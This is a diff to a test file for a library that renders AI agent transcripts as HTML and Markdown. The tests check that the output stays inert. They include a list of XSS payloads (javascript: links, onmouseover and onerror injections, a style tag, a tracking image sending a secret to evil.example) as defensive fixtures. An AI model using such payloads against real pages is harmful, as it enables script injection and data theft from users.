@@ -2,24 +2,31 @@
 
 from __future__ import annotations
 
+import re
 from html.parser import HTMLParser
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from agentlab.diagram import diagram_svg
 from agentlab.history import validate
 from agentlab.i18n import EN, ZH, set_language
 from agentlab.loop import LoopResult
-from agentlab.widgets.diagram import diagram_svg
-from agentlab.widgets.render import (
+from agentlab.render import (
     block_html,
+    decision_html,
+    error_html,
     fold,
+    fold_markdown,
     markdown,
     pairing_table_html,
     result_html,
+    result_markdown,
     short_id,
+    tn,
     tokens_svg,
+    totals_html,
     transcript_html,
 )
 
@@ -46,16 +53,39 @@ class Tags(HTMLParser):
         return {name for _, attrs in self.tags for name in attrs}
 
 
+# Every tag and attribute our HTML may hold; anything else came from the data.
+SAFE_TAGS = {
+    "style", "div", "span", "b", "i", "em", "strong", "code", "pre", "p", "br", "hr", "a",
+    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "del", "s",
+    "details", "summary", "label", "input", "table", "thead", "tbody", "tr", "th", "td",
+    "svg", "title", "defs", "marker", "path", "rect", "polygon", "text", "g", "line", "img", "kbd",
+}  # fmt: skip
+SAFE_ATTRIBUTES = {
+    "class", "style", "title", "href", "rel", "type", "hidden", "open", "alt", "src", "start",
+    "align", "xmlns", "width", "height", "viewbox", "role", "font-family", "font-size",
+    "font-weight", "text-anchor", "x", "y", "x1", "y1", "x2", "y2", "rx", "d", "points",
+    "transform", "id", "refx", "refy", "markerwidth", "markerheight", "markerunits", "orient",
+    "marker-end", "fill", "stroke", "data-node", "data-state", "data-edge", "data-hot",
+    "data-tag", "data-stage", "data-running", "data-ended",
+}  # fmt: skip
+
+
 def assert_inert(html: str) -> None:
-    """No script tag, no event handler, no image unless it is inline data."""
+    """Only our own tags and attributes; no script, no handler; images only from
+    inline data; links only to http(s)/mailto, with rel="noopener noreferrer"."""
     tags = Tags(html)
     assert "script" not in tags.names()
-    assert not {a for a in tags.attributes() if a.startswith("on")}
+    assert tags.names() <= SAFE_TAGS, tags.names() - SAFE_TAGS
+    assert tags.attributes() <= SAFE_ATTRIBUTES, tags.attributes() - SAFE_ATTRIBUTES
     for tag, attrs in tags.tags:
         if tag == "img":
             assert str(attrs.get("src", "")).startswith("data:image/")
         if tag == "a":
-            assert not str(attrs.get("href", "")).lower().startswith("javascript")
+            href = str(attrs.get("href") or "").strip().lower()  # none: an inert <a>
+            assert not href or href.startswith(("http://", "https://", "mailto:")), href
+            assert attrs.get("rel") == "noopener noreferrer"
+        for value in (attrs.get("class") or "").split():
+            assert value.startswith("al-"), value  # no class name from the data
 
 
 def tool_turn(command: str = "echo hello", output: str = "hello", **result: object) -> list[dict]:
@@ -153,7 +183,7 @@ def test_result_content_blocks_text_image_and_unknown() -> None:
 def test_long_output_is_folded_with_a_way_to_expand() -> None:
     text = "\n".join(f"line {i}" for i in range(100))
     html = fold(text)
-    assert "<details" in html and "<summary>show 88 more line(s)" in html
+    assert "<details" in html and "<summary>show 88 more lines" in html
     head, rest = html.split("<details")
     assert "line 11<" in head and "line 12" not in head
     assert "line 12\n" in rest and "line 99" in rest
@@ -193,7 +223,7 @@ def test_unanswered_tool_use_and_unexpected_result_are_flagged_with_their_rule()
     assert "breaks the rule &#x27;unexpected_result&#x27;" in html
     assert "`tool_use` ids were found without `tool_result` blocks" in html
     assert "unexpected `tool_use_id` found in `tool_result` blocks: toolu_99" in html
-    assert "2 problem(s)" in html
+    assert "2 problems" in html
     assert "answers no tool_use in the message before it" in html
 
 
@@ -243,7 +273,7 @@ def test_diagram_lights_the_next_stage(stage: str, lit: set[str]) -> None:
         a["data-node"]: a["data-state"] for t, a in tags.tags if t == "g" and "data-node" in a
     }
     assert {n for n, s in states.items() if s} == lit
-    assert all(s == "next" for n, s in states.items() if n in lit)
+    assert all(s == ("ended" if stage == "done" else "next") for n, s in states.items() if n in lit)
     running = Tags(diagram_svg(stage, running=True))
     assert {a["data-state"] for t, a in running.tags if t == "g" and a.get("data-state")} == {
         "running"
@@ -300,12 +330,12 @@ def test_loop_result_renders_as_html() -> None:
     html = result._repr_html_()
     assert html == result_html(result)
     assert "<strong>hello</strong>" in html and "<details" in html
-    assert "stop_reason end_turn · 2 turn(s) · 4 message(s)" in html
+    assert "transcript (4 messages)" in html
     assert_inert(html)
 
 
 def test_every_view_string_has_a_chinese_entry() -> None:
-    keys = [k for k in EN if k.startswith(("view.", "diagram."))]
+    keys = [k for k in EN if k.startswith(("view.", "diagram.")) and not k.endswith(".one")]
     assert len(keys) > 50
     assert [k for k in keys if k not in ZH] == []
 
@@ -346,4 +376,273 @@ message = st.one_of(
 def test_any_history_renders_inert_html(messages: list) -> None:
     html = transcript_html(messages)
     assert_inert(html)
-    assert html.count('<div class="al-card ') == len(messages)
+    assert html.count('<details class="al-card ') == len(messages)
+
+
+# --------------------------------------------------------------------------- issue 13.6: HTML safety
+
+HOSTILE = [
+    SCRIPT,
+    IMG,
+    '" onmouseover="alert(1)" x="',
+    "' onmouseover='alert(1)",
+    "javascript:alert(1)",
+    "[click](javascript:alert(1))",
+    "![pixel](https://evil.example/p.png?secret=1)",
+    "![inline](data:image/png;base64,iVBORw0KGgo=)",
+    "[d](data:text/html;base64,PHNjcmlwdD4=)",
+    "[i](data:image/png;base64,iVBORw0KGgo=)",
+    "<javascript:alert(1)>",
+    "[ref][1]\n\n[1]: javascript:alert(1)",
+    "`a``[x](javascript:alert(1))``",
+    "\\`[x](javascript:alert(1))`",
+    "</details></summary><img src=x onerror=alert(1)>",
+    "<style>*{display:none}</style>",
+    "{0} {n} %s",
+]
+
+
+def test_markdown_images_become_links_and_never_load() -> None:
+    html = markdown(
+        "see ![pixel](https://evil.example/p.png?x=1) and ![i](data:image/png;base64,AA==)"
+    )
+    assert "<img" not in html
+    assert '<a href="https://evil.example/p.png?x=1" rel="noopener noreferrer">🖼 pixel</a>' in html
+    assert "data:" not in html.split("🖼 i")[0].rsplit("<", 1)[-1]  # no data: link either
+    assert_inert(html)
+
+
+def test_links_get_rel_and_only_web_schemes() -> None:
+    html = markdown(
+        "[a](https://example.org) [b](data:text/html,hi) [c](vbscript:x) [d](mailto:x@y.z)"
+    )
+    assert html.count('rel="noopener noreferrer"') == 2
+    assert "data:text/html" not in html.replace("[b](data:text/html,hi)", "")
+    assert_inert(html)
+
+
+@pytest.mark.parametrize("role", ['x" onmouseover="alert(1)', "<b>boss</b>", "system", "tool"])
+def test_a_loaded_role_is_text_never_an_attribute(role: str) -> None:
+    messages = [{"role": role, "content": "hi"}, *tool_turn()[1:]]
+    html = transcript_html(messages)
+    assert_inert(html)
+    assert 'class="al-card al-card-other"' in html
+    assert "role " + role.replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;") in html
+
+
+def test_thinking_blocks_are_a_folded_row_without_the_signature() -> None:
+    signature = "EqQBCkgIARABGAIiQL" + "x" * 300 + "Zz9"
+    hidden = block_html({"type": "thinking", "thinking": "", "signature": signature})
+    assert hidden.startswith('<details class="al-block al-thinking">')  # folded: no open
+    assert "thinking (hidden)" in hidden and signature not in hidden
+    assert "EqQBCk…xZz9" in hidden and "321 characters" in hidden
+    shown = block_html(
+        {"type": "thinking", "thinking": "Let me list\nthe files.", "signature": "s1"}
+    )
+    assert "thinking (2 lines)" in shown and "Let me list" in shown
+    redacted = block_html({"type": "redacted_thinking", "data": "Zm9v" * 100})
+    assert "redacted thinking" in redacted and "Zm9v" * 100 not in redacted
+    messages = tool_turn()
+    messages[1]["content"].insert(0, {"type": "thinking", "thinking": "", "signature": signature})
+    html = transcript_html(messages)
+    assert "thinking (hidden)" in html and signature not in html
+    assert_inert(html)
+
+
+def test_a_long_answer_folds_after_its_first_lines() -> None:
+    answer = "\n".join(f"line {i}" for i in range(200))
+    html = fold_markdown(answer)
+    head, rest = html.split("<details", 1)
+    assert "line 19" in head and "line 20" not in head
+    assert "show 180 more lines" in rest and "line 199" in rest
+    assert "<details" not in fold_markdown("short\nanswer")
+
+
+def test_a_fenced_block_cut_by_the_fold_stays_code_on_both_sides() -> None:
+    answer = "Here:\n```python\n" + "\n".join(f"x = {i}" for i in range(60)) + "\n```\nDone."
+    head, rest = fold_markdown(answer).split("<details", 1)
+    assert "<pre><code" in head and "x = 17" in head
+    assert "<pre><code" in rest and "x = 59" in rest and "<p>Done.</p>" in rest
+
+
+def test_earlier_turns_fold_and_the_current_turn_stays_open() -> None:
+    messages = tool_turn()[:3]
+    for k in range(2, 5):
+        turn = tool_turn(command=f"echo {k}")[1:3]
+        turn[0]["content"][1]["id"] = turn[1]["content"][0]["tool_use_id"] = f"toolu_{k}"
+        messages += turn
+    opened = [
+        part.split(">", 1)[0].endswith(" open")
+        for part in transcript_html(messages).split('<details class="al-card ')[1:]
+    ]
+    assert len(opened) == len(messages) == 9
+    assert opened == [True, False, False, False, False, False, True, True, True]
+    folded = transcript_html(messages).split('<details class="al-card ')[4]  # messages[3]
+    assert '<span class="al-preview">Let me run it. · bash: echo 2</span>' in folded
+
+
+def test_plurals_have_no_parenthesised_s() -> None:
+    assert tn("view.count.messages", 1) == "1 message"
+    assert tn("view.count.messages", 2) == "2 messages"
+    assert tn("view.count.tool_calls", 0) == "0 tool calls"
+    html = transcript_html(tool_turn()) + result_html(
+        LoopResult(tool_turn(), "", "end_turn", 1, {})
+    )
+    assert "(s)" not in html
+    set_language("zh")
+    try:
+        assert tn("view.count.messages", 1) == "1 条消息"
+    finally:
+        set_language("en")
+
+
+def test_pairs_table_and_cards_show_what_really_ran() -> None:
+    messages = tool_turn(command="ls -la")
+    runs = {"toolu_01": {"verdict": "edited", "input": {"command": "ls *.py"}}}
+    table = pairing_table_html(messages, {"toolu_01": 0.5}, runs)
+    assert "edited" in table and "ls *.py" in table and "the model asked for: ls -la" in table
+    card = transcript_html(messages, runs=runs)
+    assert "what ran:" in card and "<code>ls *.py</code>" in card
+    denied = {"toolu_01": {"verdict": "denied", "reason": "not today"}}
+    table = pairing_table_html(tool_turn(output="Denied", is_error=True), {"toolu_01": 0.0}, denied)
+    assert "✗ denied" in table and "0.00 s" not in table and "—" in table
+    assert "not today" in transcript_html(tool_turn(), runs=denied)
+
+
+def test_a_turn_limit_stop_is_shown_as_such() -> None:
+    messages = tool_turn()[:3] + [
+        {"role": "assistant", "content": [{"type": "text", "text": "Let me check with bash."}]}
+    ]
+    result = LoopResult(
+        messages,
+        "Let me check with bash.",
+        "tool_use",
+        20,
+        {},
+        ended="turn_limit",
+        explanation="The loop reached its limit.",
+    )
+    html = result_html(result)
+    assert "ended: turn limit" in html and "stop_reason max_turns" not in html
+    assert html.index("ended: turn limit") < html.index("Let me check with bash.")
+    md = result_markdown(result)
+    assert md.startswith("**ended: turn limit**")
+
+
+def test_decision_box_knows_an_answer_is_in_before_decide() -> None:
+    assert "has not answered" in decision_html(None)
+    pending = decision_html(None, answered="tool_use")
+    assert "has not answered" not in pending and "stop_reason tool_use" in pending
+
+
+def test_totals_say_tokens_and_cost() -> None:
+    usage = {"input_tokens": 1200, "output_tokens": 300, "cache_read_input_tokens": 800}
+    assert "2000 tokens in · 300 tokens out · about $0.0123" in totals_html(usage, 0.0123)
+    assert "no price known for m-x" in totals_html(usage, None, "m-x")
+
+
+def test_diagram_marks_one_next_stage_and_a_stop_that_is_not_the_models() -> None:
+    two_lit = diagram_svg("append")
+    assert two_lit.count('data-state="next"') == 2 and two_lit.count("data-tag=") == 1
+    stopped = diagram_svg("done", ended="interrupted")
+    assert 'data-node="end" data-state="stopped"' in stopped and "stopped" in stopped
+    assert 'data-edge="decide-end" data-hot="yes"' not in stopped
+    answered = diagram_svg("done", ended="model")
+    assert 'data-edge="decide-end" data-hot="yes"' in answered
+
+
+def _live_links(markdown_text: str) -> list[tuple[str, str]]:
+    """Links, images and raw HTML tags a Markdown renderer (with HTML on, as GitHub's) would make."""
+    from markdown_it import MarkdownIt
+
+    found = []
+    stack = MarkdownIt("commonmark", {"html": True}).parse(markdown_text)
+    while stack:
+        token = stack.pop()
+        stack.extend(token.children or [])
+        if token.type in ("link_open", "image"):
+            found.append((token.type, str(token.attrGet("href") or token.attrGet("src"))))
+        if token.type in ("html_inline", "html_block"):
+            tags = re.findall(r"<\s*/?\s*([a-zA-Z]+)", token.content)
+            found += [("html", tag) for tag in tags if tag not in ("details", "summary")]
+    return found
+
+
+def test_result_markdown_keeps_no_link_or_image_from_the_model() -> None:
+    evil = "\n\n".join(HOSTILE)
+    messages = [{"role": "user", "content": evil}, *tool_turn(command=evil, output=evil)[1:]]
+    messages[3]["content"][0]["text"] = evil
+    result = LoopResult(messages, evil, "end_turn", 2, {}, explanation=evil)
+    md = result_markdown(result)
+    assert _live_links(md) == []
+    assert "javascript:alert(1)" in md  # shown as text, not dropped
+
+
+hostile = st.one_of(st.sampled_from(HOSTILE), texts, st.text(max_size=12))
+hostile_block = st.one_of(
+    st.builds(lambda s: {"type": "text", "text": s}, hostile),
+    st.builds(
+        lambda i, n, s: {"type": "tool_use", "id": i, "name": n, "input": {"command": s}},
+        hostile,
+        hostile,
+        hostile,
+    ),
+    st.builds(
+        lambda i, s: {"type": "tool_use", "id": i, "name": "x", "input": {s: s}}, ids, hostile
+    ),
+    st.builds(
+        lambda i, s, e: {"type": "tool_result", "tool_use_id": i, "content": s, "is_error": e},
+        hostile,
+        hostile,
+        st.booleans(),
+    ),
+    st.builds(
+        lambda i, s, m: {
+            "type": "tool_result",
+            "tool_use_id": i,
+            "content": [
+                {"type": "text", "text": s},
+                {"type": "image", "source": {"type": "base64", "media_type": m, "data": s}},
+            ],
+        },
+        ids,
+        hostile,
+        st.one_of(st.just("image/png"), hostile),
+    ),
+    st.builds(lambda s, g: {"type": "thinking", "thinking": s, "signature": g}, hostile, hostile),
+    st.builds(lambda s: {"type": "redacted_thinking", "data": s}, hostile),
+    st.builds(lambda s: {"type": s, "x": s}, hostile),
+)
+hostile_message = st.builds(
+    lambda r, c: {"role": r, "content": c},
+    st.one_of(st.sampled_from(["user", "assistant"]), hostile),
+    st.one_of(hostile, st.lists(hostile_block, max_size=3)),
+)
+
+
+@settings(max_examples=120, deadline=None)
+@given(st.lists(hostile_message, max_size=5), hostile, hostile)
+def test_hostile_strings_in_every_field_of_every_view_stay_text(
+    messages: list, word: str, ending: str
+) -> None:
+    """Issue 13.6: roles, ids, names, inputs, outputs, thinking, signatures,
+    media types, stop reasons, explanations and errors, in every fallback."""
+    from agentlab.loop import Decision
+
+    ids_seen = [str(b.get("id")) for m in messages for b in m["content"] if isinstance(m["content"], list) and b.get("type") == "tool_use"]  # fmt: skip
+    runs = {i: {"verdict": "edited", "input": {"command": word}} for i in ids_seen[:1]}
+    runs.update({i: {"verdict": "denied", "reason": word} for i in ids_seen[1:2]})
+    result = LoopResult(messages, word, word, 1, {}, explanation=word, ended=ending)
+    pages = [
+        transcript_html(messages, runs=runs, durations={i: 1.0 for i in ids_seen}),
+        pairing_table_html(messages, None, runs),
+        result_html(result),
+        decision_html(Decision("execute", word, (), word)),
+        decision_html(None, answered=word),
+        error_html(RuntimeError(word), word),
+        totals_html({"input_tokens": 1}, None, word),
+        diagram_svg(word, ended=ending),
+    ]
+    for html in pages:
+        assert_inert(html)
+    assert _live_links(result_markdown(result)) == []
